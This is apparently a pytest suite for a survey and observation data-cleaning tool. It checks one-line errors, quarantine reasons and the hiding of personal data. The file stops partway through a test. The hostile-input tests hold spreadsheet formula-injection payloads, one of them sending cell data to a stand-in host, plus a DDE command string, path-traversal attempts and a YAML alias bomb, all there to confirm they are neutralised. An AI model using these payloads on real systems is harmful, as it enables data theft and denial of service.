"""A catalogue of bad inputs: each ends in one clear error line (exit 2, no outputs) or in a specific
quarantine reason — never a traceback, never a silent drop.

Every case starts from a tiny hand-made study (3 encounters) that cleans without problems, then
breaks one thing.
"""
from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pytest
import yaml

from svcresearch import cli
from svcresearch.codebook import default_codebook_path

OPS = """encounter_id,service_point,employee_id,employee_name,customer_id,customer_name,customer_email,customer_phone,channel,start_time,wait_min,returning_customer,service_failure,duration_s
ENC-000001,SP01,E-00001,Aino Virtanen,C-000001,Pekka Korhonen,pekka@example.fi,040 123 4567,face_to_face,2026-03-02 10:15,1.5,no,no,120
ENC-000002,SP01,E-00002,Ville Nieminen,C-000002,Liisa Laine,liisa@example.fi,050 765 4321,phone,2.3.2026 10.20,"3,5",yes,yes,200
ENC-000003,SP02,E-00001,Aino Virtanen,C-000003,Kalle Mäkinen,kalle@example.fi,044 111 2222,face_to_face,2026-03-02 11:00,0,no,no,90
"""
CODING = """encounter_id,coder,eye_contact,greeting,smile,resolved,empathy,apology,explanation,acknowledged_wait,phone_use,scripted,upselling,referral,coder_comment
ENC-000001,A,yes,yes,genuine,yes,yes,,,,no,no,no,,fine
ENC-000002,A,,yes,,no,no,yes,no,yes,no,no,no,yes,
ENC-000003,A,no,K,ei,yes,no,,,,no,yes,no,,
"""
SURVEY = """receipt_code,responded_at,sat_overall,sat_1,sat_2,sat_3,felt_valued,tell_others,post_online,respondent_email,open_feedback
ENC-000001,2026-03-02 12:00,5,6,7,6,6,yes,no,pekka@example.fi,hyvä
ENC-000002,2026-03-02 13:00,2,3,2,3,2,no,no,,
"""


def make_study(root: Path, *, ops=OPS, coding=CODING, survey=SURVEY, study=None, codebook=None) -> Path:
    raw = root / "raw"
    raw.mkdir(parents=True)
    (raw / "operations.csv").write_text(ops, encoding="utf-8")
    (raw / "coding_A.csv").write_text(coding, encoding="utf-8")
    (raw / "survey.csv").write_text(survey, encoding="utf-8")
    if codebook is None:
        shutil.copy(default_codebook_path(), raw / "codebook.yaml")
    else:
        (raw / "codebook.yaml").write_text(codebook, encoding="utf-8")
    spec = study if study is not None else {
        "name": "tiny", "codebook": "codebook.yaml",
        "files": [{"path": "operations.csv", "kind": "operations"},
                  {"path": "coding_A.csv", "kind": "coding"},
                  {"path": "survey.csv", "kind": "survey"}]}
    if spec is not False:
        (raw / "study.yaml").write_text(spec if isinstance(spec, str) else yaml.safe_dump(spec), encoding="utf-8")
    return raw


def run_clean(root: Path, raw: Path, capsys, monkeypatch):
    monkeypatch.setenv("SVCRESEARCH_KEY", "test-key-0123456789")
    out = root / "processed"
    code = cli.main(["clean", "--raw", str(raw), "--out", str(out), "--quiet"])
    return code, out, capsys.readouterr()


def expect_error(tmp_path, capsys, monkeypatch, raw, *, names):
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    lines = cap.err.strip().splitlines()
    assert code == 2, cap.err
    assert len(lines) == 1, cap.err
    assert "Traceback" not in cap.err
    for n in names:
        assert n in lines[0], (n, lines[0])
    assert not out.exists()
    return lines[0]


def expect_quarantine(tmp_path, capsys, monkeypatch, raw, *, file, row, column, reason):
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    q = pd.read_csv(out / "quarantine.csv", dtype=str, keep_default_na=False)
    hit = q[(q["file"] == file) & (q["row"] == str(row)) & (q["column"] == column) & (q["reason"] == reason)]
    assert len(hit) >= 1, q.to_string()
    import json

    rep = json.loads((out / "cleaning_report.json").read_text())
    for e in rep["files"]:
        assert e["read"] == e["kept"] + e["merged"] + e["quarantined"]
    return q, rep


def test_baseline_study_is_clean(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    q = pd.read_csv(out / "quarantine.csv")
    assert len(q) == 0
    enc = pd.read_parquet(out / "encounters.parquet")
    assert enc["greeting"].tolist() == [True, True, True]
    assert enc["eye_contact_status"].tolist() == ["observed", "not_applicable", "observed"]
    assert enc["wait_min"].tolist() == [1.5, 3.5, 0.0]


# --- one-line errors (exit 2, nothing written) -------------------------------------------------------
def test_raw_folder_missing(tmp_path, capsys, monkeypatch):
    expect_error(tmp_path, capsys, monkeypatch, tmp_path / "nowhere", names=["nowhere"])


def test_missing_study_yaml(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study=False)
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "not found"])


def test_study_yaml_not_yaml(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study="files: [unclosed\n")
    line = expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "not valid YAML"])
    assert "UTF-8" not in line  # a syntax error is not an encoding problem


def test_study_yaml_not_a_mapping(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study="- just\n- a list\n")
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "mapping"])


def test_study_yaml_unknown_key(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study={"codebook": "codebook.yaml", "fils": []})
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "fils"])


def test_study_yaml_names_missing_file(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study={"codebook": "codebook.yaml",
                                      "files": [{"path": "operations.csv", "kind": "operations"},
                                                {"path": "coding_B.csv", "kind": "coding"}]})
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "coding_B.csv", "files"])


def test_unknown_file_kind(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study={"codebook": "codebook.yaml",
                                      "files": [{"path": "operations.csv", "kind": "logbook"}]})
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "logbook", "kind"])


def test_study_yaml_without_codebook(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study={"files": [{"path": "operations.csv", "kind": "operations"}]})
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "codebook"])


def test_codebook_file_missing(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study={"codebook": "cb2.yaml",
                                      "files": [{"path": "operations.csv", "kind": "operations"}]})
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "cb2.yaml"])


def test_bad_codebook_role(tmp_path, capsys, monkeypatch):
    text = default_codebook_path().read_text(encoding="utf-8").replace(
        "    label_fi: Hymy\n    role: behaviour", "    label_fi: Hymy\n    role: feeling")
    raw = make_study(tmp_path, codebook=text)
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["codebook.yaml", "smile", "feeling"])


def test_bad_codebook_yaml(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, codebook="variables: {greeting: [\n")
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["codebook.yaml"])


def test_file_listed_twice(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, study={"codebook": "codebook.yaml",
                                      "files": [{"path": "operations.csv", "kind": "operations"},
                                                {"path": "operations.csv", "kind": "operations"}]})
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "operations.csv", "twice"])


def test_empty_file(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding="")
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding_A.csv", "empty"])


def test_header_only_file(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, survey=SURVEY.splitlines()[0] + "\n")
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["survey.csv", "no data rows"])


def test_wrong_encoding_utf16(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    (raw / "coding_A.csv").write_bytes(CODING.encode("utf-16"))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding_A.csv"])


def test_missing_required_column(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding=CODING.replace("encounter_id,coder", "encounter,coder", 1))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding_A.csv", "column 'encounter_id'", "required"])


def test_missing_coder_column(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding=CODING.replace("encounter_id,coder,", "encounter_id,who,", 1))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding_A.csv", "column 'coder'"])


def test_survey_receipt_code_column_missing(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, survey=SURVEY.replace("receipt_code", "kuitti", 1))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["survey.csv", "column 'receipt_code'"])


def test_coding_without_behaviour_columns(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding="encounter_id,coder,note\nENC-000001,A,x\n")
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding_A.csv", "behaviour"])


def test_survey_without_outcomes(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, survey="receipt_code,open_feedback\nENC-000001,ok\n")
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["survey.csv", "outcome"])


def test_unsupported_extension(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    (raw / "coding.json").write_text("{}")
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"][1]["path"] = "coding.json"
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding.json", "extension"])


def test_duplicate_column_names(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding=CODING.replace(",coder_comment", ",greeting", 1))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding_A.csv", "greeting"])


def test_ragged_rows(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding=CODING + "ENC-000004,A,yes\n")
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding_A.csv", "line 5"])


def test_read_options_on_boris_rejected(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    (raw / "video.tsv").write_text("x\n")
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"].append({"path": "video.tsv", "kind": "boris", "sep": "\t"})
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "video.tsv", "BORIS"])


def test_unknown_sheet(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    pd.read_csv(_io_str(CODING), dtype=str).to_excel(raw / "coding.xlsx", sheet_name="coding", index=False)
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"][1] = {"path": "coding.xlsx", "kind": "coding", "sheet": "koodaus"}
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["coding.xlsx", "koodaus"])


def test_output_inside_raw_folder(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    monkeypatch.setenv("SVCRESEARCH_KEY", "k-0123456789abcdef")
    code = cli.main(["clean", "--raw", str(raw), "--out", str(raw / "processed"), "--quiet"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and "raw" in err[0]
    assert not (raw / "processed").exists()


def _io_str(text):
    import io

    return io.StringIO(text)


# --- specific quarantine reasons (exit 0) -----------------------------------------------------------
def test_unknown_code(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding=CODING.replace("ENC-000003,A,no,K", "ENC-000003,A,no,jep"))
    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=4,
                             column="greeting", reason="unknown_code")
    assert q["value"].tolist() == ["jep"]


def test_out_of_range_likert(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, survey=SURVEY.replace("ENC-000002,2026-03-02 13:00,2", "ENC-000002,2026-03-02 13:00,6"))
    expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="survey.csv", row=3, column="sat_overall",
                      reason="out_of_range")


def test_unparseable_date(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, ops=OPS.replace("2026-03-02 11:00", "huomenna"))
    expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="operations.csv", row=4, column="start_time",
                      reason="unparseable_time")


def test_conflicting_duplicate_ids(tmp_path, capsys, monkeypatch):
    line = CODING.splitlines()[3].replace(",no,K,", ",yes,K,")
    raw = make_study(tmp_path, coding=CODING + line + "\n")
    q, rep = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=5,
                               column="eye_contact", reason="duplicate_conflict")
    both = q[q["reason"] == "duplicate_conflict"]
    assert sorted(both["value"]) == ["no", "yes"] and sorted(both["row"]) == ["4", "5"]
    assert rep["files"][1]["quarantined"] == 2


def test_exact_duplicate_merged(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, ops=OPS + OPS.splitlines()[1] + "\n")
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    import json

    rep = json.loads((out / "cleaning_report.json").read_text())
    ops = rep["files"][0]
    assert (ops["read"], ops["kept"], ops["merged"], ops["quarantined"]) == (4, 3, 1, 0)


def test_duplicate_survey_response(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, survey=SURVEY + "ENC-000002,2026-03-02 13:05,4,3,2,3,2,no,no,,\n")
    expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="survey.csv", row=4, column="sat_overall",
                      reason="duplicate_response")


def test_invalid_and_missing_id(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding=CODING + "ENC-X,A,yes,yes,,,,,,,,,,,\n,A,yes,yes,,,,,,,,,,,\n")
    expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=5, column="encounter_id",
                      reason="invalid_id")
    shutil.rmtree(tmp_path / "processed")
    expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=6, column="encounter_id",
                      reason="missing_required")


def test_unlinked_survey_and_coding(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, survey=SURVEY + "ENC-000999,2026-03-02 13:00,4,4,4,4,4,no,no,,\n",
                     coding=CODING + "ENC-000777,A,yes,yes,,,,,,,,,,,\n")
    q, rep = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="survey.csv", row=4,
                               column="receipt_code", reason="unlinked_survey")
    assert ((q["file"] == "coding_A.csv") & (q["reason"] == "unlinked_coding")).sum() == 1
    assert rep["link_rates"]["survey"] == {"linked": 2, "total": 3, "rate": round(2 / 3, 6)}


def test_coded_although_not_applicable(tmp_path, capsys, monkeypatch):
    # eye contact coded on a phone encounter (ENC-000002): not applicable, value withdrawn, reported
    raw = make_study(tmp_path, coding=CODING.replace("ENC-000002,A,,yes", "ENC-000002,A,kyllä ,yes"))
    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=3,
                             column="eye_contact", reason="out_of_range")
    # the value as the coder wrote it, not its normalised level
    assert q.loc[(q["row"] == "3") & (q["column"] == "eye_contact"), "value"].tolist() == ["kyllä "]
    enc = pd.read_parquet(tmp_path / "processed" / "encounters.parquet")
    assert enc.loc[1, "eye_contact_status"] == "not_applicable" and pd.isna(enc.loc[1, "eye_contact"])


def test_sav_without_value_labels(tmp_path, capsys, monkeypatch):
    import pyreadstat

    raw = make_study(tmp_path)
    df = pd.DataFrame({"receipt_code": ["ENC-000001", "ENC-000003"], "sat_overall": [5.0, 9.0],
                       "sat_1": [6.0, 5.0], "sat_2": [7.0, 5.0], "sat_3": [6.0, 5.0],
                       "felt_valued": [6.0, 4.0], "tell_others": [1.0, 0.0], "post_online": [0.0, 0.0]})
    pyreadstat.write_sav(df, str(raw / "paper.sav"))
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"].append({"path": "paper.sav", "kind": "survey"})
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="paper.sav", row=2, column="sat_overall",
                      reason="out_of_range")
    enc = pd.read_parquet(tmp_path / "processed" / "encounters.parquet")
    # bare codes 1/0 are aliases of yes/no; the paper response of ENC-000003 is linked
    assert enc.loc[2, "tell_others"] == False and enc.loc[2, "survey_mode"] == "paper"  # noqa: E712


def test_conflicting_operations_rows_do_not_leak_raw_identifiers(tmp_path, capsys, monkeypatch):
    # the same encounter logged twice with different employees: both rows are quarantined, and
    # neither the value column nor the detail text may show a raw employee id or a name
    ops = OPS + "ENC-000003,SP02,E-00777,Maija Meikäläinen,C-000003,Kalle Mäkinen,kalle@example.fi,044 111 2222,face_to_face,2026-03-02 11:00,0,no,no,90\n"
    raw = make_study(tmp_path, ops=ops)
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    q = pd.read_csv(out / "quarantine.csv", dtype=str, keep_default_na=False)
    conflicts = q[q["reason"] == "duplicate_conflict"]
    assert set(conflicts["row"]) == {"4", "5"}
    text = (out / "quarantine.csv").read_text(encoding="utf-8")
    for raw_value in ("E-00777", "E-00001", "00777", "Maija", "Aino"):
        assert raw_value not in text, raw_value


def test_renamed_column_is_named_not_silently_lost(tmp_path, capsys, monkeypatch):
    # employee_id renamed: not required, so cleaning runs, but the CLI and both reports say which
    # codebook column the file lacks (the employee pseudonym is empty for its records)
    raw = make_study(tmp_path, ops=OPS.replace("employee_id", "staff_no", 1))
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    notes = [line for line in cap.err.splitlines() if "note: operations.csv" in line]
    assert len(notes) == 1 and "'employee_id'" in notes[0]
    # the tiny coding sheet has no coded_at column: named too
    assert any("note: coding_A.csv" in line and "'coded_at'" in line for line in cap.err.splitlines())
    import json

    report = json.loads((out / "cleaning_report.json").read_text())
    ops_entry = next(e for e in report["files"] if e["file"] == "operations.csv")
    assert ops_entry["missing_columns"] == ["employee_id"]
    assert "staff_no" in ops_entry["ignored_columns"]
    assert "operations.csv has no column for 'employee_id'" in (out / "cleaning_report.md").read_text()
    assert pd.read_parquet(out / "encounters.parquet")["employee"].isna().all()


# --- hostile inputs (issue 9): the cleaner's side ----------------------------------------------------
BORIS_HEADER = ("Observation id\tObservation date\tDescription\tObservation type\tSource\tTime offset (s)\t"
                "Coding duration\tMedia duration (s)\tFPS (frame/s)\tSubject\tObservation duration by subject by "
                "observation\tBehavior\tBehavioral category\tModifier #1\tBehavior type\tStart (s)\tStop (s)\t"
                "Duration (s)\tMedia file name\tImage index start\tImage index stop\tImage file path start\t"
                "Image file path stop\tComment start\tComment stop")


def _boris_row(obs, behaviour, kind, start, stop):
    dur = "NA" if kind == "POINT" else f"{stop - start:.3f}"
    return "\t".join([obs, "2026-03-02 10:00:00", "", "Media file", "player #1:x.mp4", "0.000", "60.000", "60.000",
                      "25.00", "employee", "60.000", behaviour, "", "", kind, f"{start:.3f}", f"{stop:.3f}", dur,
                      "x.mp4", "0", "0", "NA", "NA", "", ""])


def _with_boris(raw, rows):
    (raw / "video.tsv").write_text("\n".join([BORIS_HEADER] + rows) + "\n", encoding="utf-8")
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"].append({"path": "video.tsv", "kind": "boris"})
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))


def _all_output_text(out) -> str:
    text = ""
    for p in sorted(out.iterdir()):
        if p.suffix == ".parquet":
            text += pd.read_parquet(p).astype(str).to_csv()
        else:
            text += p.read_text(encoding="utf-8")
    return text


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x.example/?d="&B2,"open")', "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_formula_prefixes_neutralised_in_quarantine(tmp_path, capsys, monkeypatch, cell):
    coding = CODING.replace("ENC-000001,A,yes,yes", f'ENC-000001,A,"{cell}",yes'.replace('"', '""', 0), 1)
    raw = make_study(tmp_path, coding=coding.replace(f',"{cell}",', ",\"" + cell.replace('"', '""') + "\","))
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    for line in (out / "quarantine.csv").read_text(encoding="utf-8").splitlines()[1:]:
        for field in line.split(","):
            assert not field.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")), line
    q = pd.read_csv(out / "quarantine.csv", dtype=str, keep_default_na=False)
    value = q.loc[(q["reason"] == "unknown_code") & (q["column"] == "eye_contact"), "value"].iat[0]
    # a short numeric-looking code stays visible behind an apostrophe; anything else is hidden
    assert value == "'-2+3" if cell == "-2+3" else value.startswith("<hidden h_")


def test_formula_prefix_in_a_file_name_neutralised(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding=CODING.replace("ENC-000003,A,no,K", "ENC-000003,A,no,maybe"))
    (raw / "coding_A.csv").rename(raw / "=cmd.csv")
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"][1]["path"] = "=cmd.csv"
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="'=cmd.csv", row=4, column="greeting",
                             reason="unknown_code")


@pytest.mark.parametrize("typed", ["Matti Virtanen", "131052-308T", "matti.virtanen@example.fi", "040 123 4567",
                                   "x" * 300])
def test_personal_data_in_a_scored_column_never_shown(tmp_path, capsys, monkeypatch, typed):
    raw = make_study(tmp_path, coding=CODING.replace("ENC-000003,A,no,K", f"ENC-000003,A,no,{typed}"))
    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=4, column="greeting",
                             reason="unknown_code")
    value = q.loc[(q["row"] == "4") & (q["column"] == "greeting"), "value"].iat[0]
    assert value.startswith("<hidden h_") and typed not in _all_output_text(tmp_path / "processed")


def test_short_codes_stay_visible_in_quarantine(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, coding=CODING.replace("ENC-000003,A,no,K", "ENC-000003,A,no,yes?"))
    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=4, column="greeting",
                             reason="unknown_code")
    assert q.loc[(q["row"] == "4") & (q["column"] == "greeting"), "value"].iat[0] == "yes?"


def test_name_as_boris_observation_id_hidden(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    _with_boris(raw, [_boris_row("ENC-000001", "greeting", "POINT", 1.0, 1.0),
                      _boris_row("Liisa Laine", "greeting", "POINT", 1.0, 1.0)])
    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="video.tsv", row=3, column="observation_id",
                             reason="invalid_id")
    assert "Liisa" not in _all_output_text(tmp_path / "processed")


def test_coder_name_and_email_hidden_in_coding_long(tmp_path, capsys, monkeypatch):
    coder = "Maija Meikäläinen <maija@example.fi>"
    raw = make_study(tmp_path, coding=CODING.replace("ENC-000002,A,", f'ENC-000002,"{coder}",'))
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    long_ = pd.read_parquet(out / "coding_long.parquet")
    assert set(long_["coder"]) == {"A", next(c for c in long_["coder"] if c != "A")}
    assert any(c.startswith("<hidden h_") for c in long_["coder"])
    text = _all_output_text(out)
    assert "Maija" not in text and "maija@example.fi" not in text


def test_mis_pasted_header_hidden_in_the_report(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path, survey=SURVEY.replace("open_feedback", "liisa.laine@example.fi"))
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    assert "liisa.laine" not in _all_output_text(out)
    import json

    survey = next(e for e in json.loads((out / "cleaning_report.json").read_text())["files"] if e["kind"] == "survey")
    assert len(survey["ignored_columns"]) == 1 and survey["ignored_columns"][0].startswith("<hidden h_")


def test_phone_like_value_in_a_conflicting_duplicate_does_not_abort(tmp_path, capsys, monkeypatch):
    # the second coding of encounter 1 by coder A has a phone number where a code belongs: both
    # copies are quarantined, the run finishes (no RuntimeError) and the number is nowhere
    coding = CODING + "ENC-000001,A,yes,040 765 4321,genuine,yes,yes,,,,no,no,no,,\n"
    raw = make_study(tmp_path, coding=coding)
    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=5, column="greeting",
                             reason="duplicate_conflict")
    assert "765 4321" not in _all_output_text(tmp_path / "processed")


@pytest.mark.parametrize("option,value", [("sheet", 2), ("header_row", "2"), ("header_row", 0), ("sep", "::"),
                                          ("encoding", 8), ("decimal", ";")])
def test_bad_read_options_are_one_line(tmp_path, capsys, monkeypatch, option, value):
    raw = make_study(tmp_path)
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"][1][option] = value
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", option, "coding_A.csv"])


@pytest.mark.parametrize("where", ["dotdot", "absolute", "symlink", "codebook"])
def test_nothing_outside_the_study_folder_is_read(tmp_path, capsys, monkeypatch, where):
    raw = make_study(tmp_path / "study")
    outside = tmp_path / "secret.csv"
    outside.write_text(SURVEY.replace("hyvä", "SECRET-CONTENT"), encoding="utf-8")
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    if where == "dotdot":
        spec["files"][2]["path"] = "../../secret.csv"
    elif where == "absolute":
        spec["files"][2]["path"] = str(outside)
    elif where == "symlink":
        (raw / "survey.csv").unlink()
        (raw / "survey.csv").symlink_to(outside)
    else:
        shutil.copy(raw / "codebook.yaml", tmp_path / "codebook.yaml")
        spec["codebook"] = "../../codebook.yaml"
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    line = expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml"])
    assert "outside the study folder" in line or "absolute path" in line


def test_same_file_listed_twice_under_two_spellings(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    spec["files"].append({"path": "./survey.csv", "kind": "survey"})
    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "survey.csv", "twice"])


def test_two_columns_for_one_variable_are_named_not_picked(tmp_path, capsys, monkeypatch):
    # an empty wait_min beside a filled Wait-Min: which one holds the data is not guessed
    ops = OPS.replace("wait_min,", "wait_min,Wait-Min,", 1)
    ops = "\n".join(line if i == 0 or not line else line.replace(",1.5,", ",,1.5,").replace(',"3,5",', ',,"3,5",')
                    .replace(",0,no,no,90", ",,0,no,no,90") for i, line in enumerate(ops.split("\n")))
    raw = make_study(tmp_path, ops=ops)
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["operations.csv", "wait_min", "Wait-Min"])


def test_behaviour_coded_as_state_and_point_is_one_line(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    _with_boris(raw, [_boris_row("ENC-000001", "smile", "STATE", 1.0, 3.0),
                      _boris_row("ENC-000002", "smile", "POINT", 2.0, 2.0)])
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["video.tsv", "smile", "STATE", "POINT"])


def test_output_set_is_swapped_in_whole_and_stale_temp_folders_go(tmp_path, capsys, monkeypatch):
    import json
    import hashlib

    raw = make_study(tmp_path)
    stale = tmp_path / ".processed.tmp-999999999-abc"   # a run killed long ago (no such process)
    stale.mkdir()
    (stale / "encounters.parquet").write_text("half-written")
    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
    assert code == 0, cap.err
    assert not stale.exists()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".processed")) == []
    package = json.loads((out / "datapackage.json").read_text())
    for r in package["resources"]:
        assert r["hash"] == "sha256:" + hashlib.sha256((out / r["path"]).read_bytes()).hexdigest()
    # outputs and the folder follow the umask (not mkdtemp's private 0700)
    assert (out.stat().st_mode & 0o077) == (0o777 & ~_umask()) & 0o077


def _umask() -> int:
    import os

    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_read_only_parent_is_one_line_naming_the_output(tmp_path, capsys, monkeypatch):
    import os

    if os.geteuid() == 0:
        pytest.skip("root writes into read-only folders; the check needs a normal user")
    raw = make_study(tmp_path)
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        monkeypatch.setenv("SVCRESEARCH_KEY", "test-key-0123456789")
        code = cli.main(["clean", "--raw", str(raw), "--out", str(locked / "processed"), "--quiet"])
        err = capsys.readouterr().err.strip().splitlines()
        assert code == 2 and len(err) == 1 and "locked/processed" in err[0] and "tmp" not in err[0]
    finally:
        locked.chmod(0o755)


def test_duplicated_files_key_in_study_yaml(tmp_path, capsys, monkeypatch):
    raw = make_study(tmp_path)
    text = (raw / "study.yaml").read_text()
    (raw / "study.yaml").write_text(text + "files:\n- {path: survey.csv, kind: survey}\n")
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "files"])


def test_alias_bomb_in_study_yaml_refused_quickly(tmp_path, capsys, monkeypatch):
    import time

    raw = make_study(tmp_path)
    bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i, name in enumerate("bcdefghij"):
        prev = "abcdefghij"[i]
        bomb.append(f"{name}: &{name} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]")
    spec = yaml.safe_load((raw / "study.yaml").read_text())
    text = yaml.safe_dump(spec) + "description:\n  " + "\n  ".join(bomb) + "\n"
    (raw / "study.yaml").write_text(text)
    start = time.perf_counter()
    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "alias"])
    assert time.perf_counter() - start < 5


def test_xlsx_formula_without_saved_value_is_quarantined_not_silently_empty(tmp_path, capsys, monkeypatch):
    import openpyxl

    raw = make_study(tmp_path)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "coding"
    rows = [r.split(",") for r in CODING.strip().splitlines()]
